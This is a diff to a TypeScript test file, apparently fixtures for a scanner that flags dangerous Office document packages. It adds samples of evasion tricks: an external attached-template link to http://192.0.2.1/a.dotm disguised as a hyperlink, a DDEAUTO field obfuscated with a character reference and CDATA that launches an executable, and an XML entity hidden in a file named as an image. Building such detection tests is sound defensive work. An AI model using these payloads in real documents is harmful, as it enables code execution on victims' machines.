@@ -58,6 +58,12 @@ const outside: [string, Uint8Array][] = [
     'an object from an address',
     relating('oleObject', 'mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html'),
   ],
+  [
+    'a template from an address that calls itself a link within a value',
+    related(
+      `<Relationships><Relationship Id="a" Type="${OFFICE_RELATION}/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External" xmlns:x=' Type="a/hyperlink"'/></Relationships>`,
+    ),
+  ],
   ['a picture from an address', relating('image', 'http://192.0.2.1/pixel.png')],
   ['a frame from an address', relating('frame', 'http://192.0.2.1/frame.htm')],
   ['a web page as a part', relating('aFChunk', 'a.xml', '')],
@@ -108,6 +114,19 @@ const inside: [string, readonly PackedPart[]][] = [
           '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText>',
       },
     ],
+  ],
+  [
+    'a field that calls a program, its word in references and CDATA',
+    [
+      {
+        name: 'word/footer1.xml',
+        content: '<é:instrText>&#68;<![CDATA[DEAUTO]]> c:\\\\a.exe</é:instrText>',
+      },
+    ],
+  ],
+  [
+    'an entity in what only is called a picture',
+    [{ name: 'word/media/image1.png', content: ENTITY }],
   ],
   ['a way out of the folder', [{ name: '../../x.xml', content: 'x' }]],
   ['a part twice', [{ name: 'Word/Document.xml', content: '<a/>' }]],
